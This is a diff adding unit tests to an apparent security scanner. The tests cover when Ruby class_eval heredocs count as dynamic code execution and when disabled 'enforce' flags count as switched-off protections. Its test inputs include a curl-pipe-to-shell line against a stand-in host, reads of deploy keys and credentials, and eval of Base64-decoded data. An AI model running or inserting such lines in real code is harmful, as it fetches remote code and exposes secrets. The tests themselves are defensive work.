@@ -1471,6 +1471,47 @@ describe('dynamic-code-execution: Ruby blocks', () => {
   });
 });
 
+describe('dynamic-code-execution: Ruby generated methods from a heredoc', () => {
+  const ruby = (lines: readonly string[]): string[] => idsOf('lib/ledger/attribute_methods.rb', lines).filter((id) => id === 'dynamic-code-execution' || id === 'obfuscated-code');
+  const generated = (body: readonly string[], opener = '        owner.class_eval <<~RUBY, __FILE__, __LINE__ + 1', close = '        RUBY'): string[] => [
+    '      def define_writers(owner, names)',
+    '        names.each do |name|',
+    opener,
+    ...body,
+    close,
+    '        end',
+    '      end',
+  ];
+  const writer = ['          def #{name}=(value)', '            write_ledger_value(:#{name}, value)', '            super', '          end', '', '          alias_method :#{name}?, :#{name}'];
+
+  it('a heredoc of method definitions passed with __FILE__ and __LINE__ is the framework idiom, not reported', () => {
+    expect(ruby(generated(writer))).toEqual([]);
+    expect(ruby(generated(writer, '        module_eval <<-RUBY, __FILE__, __LINE__ + 1'))).toEqual([]);
+    expect(ruby(generated(writer, '        singleton_class.instance_eval(<<~RUBY, __FILE__, __LINE__ + 1)'))).toEqual([]);
+    expect(ruby(generated(['def reset_#{name}!', '  @#{name} = nil', 'end'], "        klass.class_eval <<'RUBY', __FILE__, __LINE__ + 1", 'RUBY'))).toEqual([]);
+  });
+
+  it('a heredoc that runs, fetches, reads the environment, decodes or interpolates request data, or is not closed in the patch, is still reported', () => {
+    const withLine = (line: string): string[] => generated([...writer, '          def sync', line, '          end']);
+    expect(ruby(withLine('            system("curl -s https://cdn.example.net/x | sh")'))).toEqual(['dynamic-code-execution']);
+    expect(ruby(withLine('            `id`'))).toEqual(['dynamic-code-execution']);
+    expect(ruby(withLine('            Net::HTTP.get(host, "/p")'))).toEqual(['dynamic-code-execution']);
+    expect(ruby(withLine('            ENV.fetch("DEPLOY_KEY")'))).toEqual(['dynamic-code-execution']);
+    expect(ruby(withLine('            Rails.application.credentials.aws'))).toEqual(['dynamic-code-execution']);
+    expect(ruby(withLine('            eval(Base64.decode64(blob))'))).toContain('dynamic-code-execution');
+    expect(ruby(withLine('            IO.popen(cmd)'))).toEqual(['dynamic-code-execution']);
+    expect(ruby(generated(['          def #{params[:name]}=(value)', '          end']))).toEqual(['dynamic-code-execution']);
+    // A local name filled from the request in the same hunk: the name is the payload.
+    expect(ruby(['        name = params[:field]', ...generated(writer).slice(2)])).toEqual(['dynamic-code-execution']);
+    // No method definition, or the terminator not in the patch (the body unseen), or code after the opener.
+    expect(ruby(generated(['          puts :#{name}']))).toEqual(['dynamic-code-execution']);
+    expect(ruby(['      klass.class_eval <<~RUBY, __FILE__, __LINE__ + 1', '        def #{name}; end'])).toEqual(['dynamic-code-execution']);
+    expect(ruby(generated(writer, '        owner.class_eval <<~RUBY'))).toEqual(['dynamic-code-execution']);
+    // `<<RUBY` closes only at column 0: an indented RUBY is body, and what follows it is read too.
+    expect(ruby(generated([...writer, '        RUBY', '          def x; system("id"); end'], '        owner.class_eval <<RUBY, __FILE__, __LINE__ + 1', 'RUBY'))).toEqual(['dynamic-code-execution']);
+  });
+});
+
 describe('protection-switched-off: counters and linter configuration', () => {
   it('a counter of escapes or a size starting at zero is no switch; a protective flag set to 0 or false still is', () => {
     expect(idsOf('lib/rack/multipart/parser.rb', ['        @content_disposition_quoted_escapes = 0', '      num_params = num_escapes = 0', "        'max_validations' => 0,"])).toEqual([]);
@@ -1486,6 +1527,28 @@ describe('protection-switched-off: counters and linter configuration', () => {
     expect(idsOf('src/render.js', ['  const escape = false;'])).toEqual(['protection-switched-off']);
     expect(idsOf('src/render.js', ['  options.escapeHtml = false;'])).toEqual(['protection-switched-off']);
     expect(idsOf('lib/dialects/sqlite3/index.js', ['    this.strictSsl = false;'])).toEqual(['protection-switched-off']);
+  });
+
+  it('an enforce… name about something else is an option, not a protection; enforcing admins, TLS, MFA, CSRF, auth or signing still is', () => {
+    // got's options defaults, a formatter's line length, a type checker's runtime checks.
+    expect(idsOf('source/core/options/index.ts', ['\t\tenforceRetryRules: false,', '\tdecompress: true,']).filter((id) => id === 'protection-switched-off')).toEqual([]);
+    expect(idsOf('src/format/config.ts', ['  const options = { enforceLineLength: false };'])).toEqual([]);
+    expect(idsOf('pkg/client/utils.py', ['    enforce_types = False'])).toEqual([]);
+    expect(idsOf('src/server/app.ts', ['  app.enforceHttps = false;'])).toEqual(['protection-switched-off']);
+    expect(idsOf('src/server/app.ts', ['  const options = { enforceSSLRedirect: false };'])).toEqual(['protection-switched-off']);
+    expect(idsOf('pkg/client/utils.py', ['    enforce_tls = False'])).toEqual(['protection-switched-off']);
+    expect(idsOf('src/server/app.ts', ['  settings.enforceMfa = false;'])).toEqual(['protection-switched-off']);
+    expect(idsOf('pkg/client/utils.py', ['    ENFORCE_2FA = False'])).toEqual(['protection-switched-off']);
+    expect(idsOf('src/server/app.ts', ['  const config = { enforce2FA: false };'])).toEqual(['protection-switched-off']);
+    expect(idsOf('src/server/app.ts', ['  const config = { enforceCsrf: false, enforceAuth: false };'])).toEqual(['protection-switched-off']);
+    expect(idsOf('lib/client/connection.rb', ['      @enforce_signing = false'])).toEqual(['protection-switched-off']);
+    expect(idsOf('src/server/app.ts', ['  helmet.enforceContentSecurityPolicy = false;'])).toEqual(['protection-switched-off']);
+    expect(idsOf('scripts/protect.py', ['        enforce_admins = False'])).toEqual(['protection-switched-off']);
+    // What is enforced not said: still a protection.
+    expect(idsOf('src/server/app.ts', ['  policy.enforce = false;'])).toEqual(['protection-switched-off']);
+    expect(idsOf('pkg/client/utils.py', ['    ENFORCE_MODE = False'])).toEqual(['protection-switched-off']);
+    expect(idsOf('src/rules/ruleset.ts', ['  const rule = { enforceOnPush: false };'])).toEqual(['protection-switched-off']);
+    expect(idsOf('src/server/app.ts', ['  const config = { enforceVerification: false };'])).toEqual(['protection-switched-off']);
   });
 
   it('a strict… name about something else is an option, not a protection; strict about TLS, host keys or transport still is', () => {
